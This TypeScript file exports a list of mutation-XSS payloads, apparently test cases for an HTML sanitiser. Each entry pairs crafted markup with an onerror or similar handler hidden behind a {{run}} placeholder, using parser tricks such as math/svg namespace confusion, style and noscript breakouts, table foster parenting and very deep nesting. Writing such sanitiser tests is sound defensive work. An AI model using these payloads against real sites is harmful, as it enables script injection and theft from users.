import type { Payload } from './payload.ts';

const deep = (n: number, open: string, inner: string): string => open.repeat(n) + inner;

/** Mutation: markup that is one thing to the sanitiser's parser and another to the reader's, or to a second reading of the result. */
export const MXSS: Payload[] = [
  {
    name: 'mxss: form in form in mglyph',
    body: '<form><math><mtext></form><form><mglyph><style></math><img src onerror={{run}}>',
  },
  {
    name: 'mxss: mglyph and style',
    body: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={{run}}&gt;">',
  },
  {
    name: 'mxss: comment in style in math',
    body: '<math><mtext><mglyph><style><!--</style><img title="--></style><img src=x onerror={{run}}>">',
    does: 'run',
  },
  {
    name: 'mxss: title attribute that closes',
    body: '<svg></p><style><a id="</style><img src=1 onerror={{run}}>">',
    does: 'run',
  },
  {
    name: 'mxss: noscript attribute',
    body: '<noscript><a title="</noscript><img src=x onerror={{run}}>"></noscript>',
    does: 'run',
  },
  {
    name: 'mxss: noembed, noframes, iframe, xmp',
    body: '<noembed><a title="</noembed><img src=x onerror={{run}}>"></noembed><noframes><a title="</noframes><img src=x onerror={{run}}>"></noframes><xmp><a title="</xmp><img src=x onerror={{run}}>"></xmp>',
    does: 'run',
  },
  {
    name: 'mxss: textarea and title',
    body: '<title><a title="</title><img src=x onerror={{run}}>"></title><textarea><a title="</textarea><img src=x onerror={{run}}>"></textarea>',
    does: 'run',
  },
  {
    name: 'mxss: select',
    does: 'run',
    body: '<select><style></select><svg></style><img src=x onerror={{run}}>',
  },
  {
    name: 'mxss: option in select in table',
    body: '<table><tr><td><select><option><style></option></select><img src=x onerror={{run}}></style>',
  },
  {
    name: 'mxss: template',
    body: '<template><s><template><s><img src=x onerror={{run}}>@</s></template></s></template>',
  },
  {
    name: 'mxss: table foster parents',
    body: '<table><svg><style></table><img src=x onerror={{run}}></style>',
    does: 'run',
  },
  {
    name: 'mxss: caption and colgroup',
    body: '<table><caption><svg><title><table><caption></caption></table><style></title><img src=x onerror={{run}}>',
  },
  {
    name: 'mxss: style in table in math',
    body: '<math><annotation-xml encoding="application/xhtml+xml"><style><img title="</style><img src=x onerror={{run}}>"></style></annotation-xml></math>',
    does: 'run',
  },
  {
    name: 'mxss: p end tag in svg',
    body: '<svg></p><title><style><!--</style></title><img title="--><img src=x onerror={{run}}>">',
  },
  {
    name: 'mxss: br end tag in math',
    body: '<math></br><style><a title="</style><img src=x onerror={{run}}>">',
    does: 'run',
  },
  {
    name: 'mxss: nested 600 deep',
    body: deep(600, '<div>', '<math><mi><style><!--</style><img title="--><img src=x onerror={{run}}>">'),
  },
  {
    name: 'mxss: form owner and depth',
    body: deep(506, '<div>', '<form></div><svg><form><style><!--</style><img src=x onerror={{run}}></form>'),
  },
  {
    name: 'mxss: tables 300 deep',
    body: deep(300, '<table><tr><td>', '<svg><style></table><img src=x onerror={{run}}>'),
    does: 'run',
  },
  { name: 'mxss: back-tick', body: '<img src=x alt="`onerror={{run}}"><p title="``onmouseover={{run}} ">' },
  {
    name: 'mxss: entities once decoded',
    body: '&lt;img src=x onerror={{run}}&gt;<p title="&lt;/p&gt;&lt;img src=x onerror={{run}}&gt;">&amp;lt;script&amp;gt;{{run}}&amp;lt;/script&amp;gt;',
  },
  {
    name: 'mxss: entity in raw text',
    body: '<xmp>&lt;/xmp&gt;&lt;img src=x onerror={{run}}&gt;</xmp><plaintext></plaintext><img src=x onerror={{run}}>',
  },
  {
    name: 'mxss: carriage return and NUL references',
    body: '<p title="a&#13;&#0;&#x80;b">&#13;&#0;<pre>&#10;&#10;x</pre>',
  },
  {
    name: 'mxss: isindex and image',
    body: '<image src=x onerror={{run}}><isindex prompt="<img src=x onerror={{run}}>">',
    does: 'run',
  },
  {
    name: 'mxss: adoption agency',
    body: '<a><b><div><a href=x><table><a><i></a><b><svg><a></table><img src=x onerror={{run}}></a>',
    does: 'run',
  },
  {
    name: 'mxss: nobr and button scopes',
    body: '<nobr><button><nobr><p><button><object><nobr></p><marquee><a><applet><a><img src=x onerror={{run}}>',
    does: 'run',
  },
  {
    name: 'mxss: doctype and second html',
    body: '<!DOCTYPE x "><img src=x onerror={{run}}>"><html><html onload={{run}}><head><body></html><img src=x onerror={{run}}>',
    does: 'run',
  },
  {
    name: 'mxss: malformed tags',
    body: '</ onerror={{run}}><//><<p onclick={{run}}><p =x onclick="{{run}}"><a"onclick={{run}} b><img src=x onerror={{run}} <p>',
    does: 'run',
  },
  {
    name: 'mxss: attribute names that are tags',
    body: '<p <script>={{run}} "><img src=x onerror={{run}}>',
    does: 'run',
  },
  {
    name: 'mxss: end tag with attributes',
    body: '</p onclick={{run}} title="><img src=x onerror={{run}}>">',
  },
  {
    name: 'mxss: is, slot and part',
    body: '<p is=x-y slot=z part=w exportparts=v contenteditable onbeforeinput={{run}}>x',
  },
  {
    name: 'after: style closed by what comes later',
    body: '<style>a{color:red}</style><p>--><!--</p><style>*/</style><img src=x onerror={{run}}>',
  },
  {
    name: 'after: text that a later replacement would use',
    body: '<p>$& $` $\' $1 {{&lt;img src=x onerror={{run}}&gt;}} %s ${x} &lt;%= %&gt;</p><p title="$&quot;&gt;&lt;img src=x onerror={{run}}&gt;">x',
  },
  {
    name: 'after: addresses that look like markup',
    body: `<a href="https://example.org/?q='><img src=x onerror={{run}}>">https://example.org/&lt;img src=x onerror={{run}}&gt;</a>`,
  },
  {
    name: 'after: quoted reply markers',
    body: '<blockquote type=cite cite="javascript:{{run}}"><div class="gmail_quote" id="</div><img src=x onerror={{run}}>">x</div></blockquote>',
  },
];
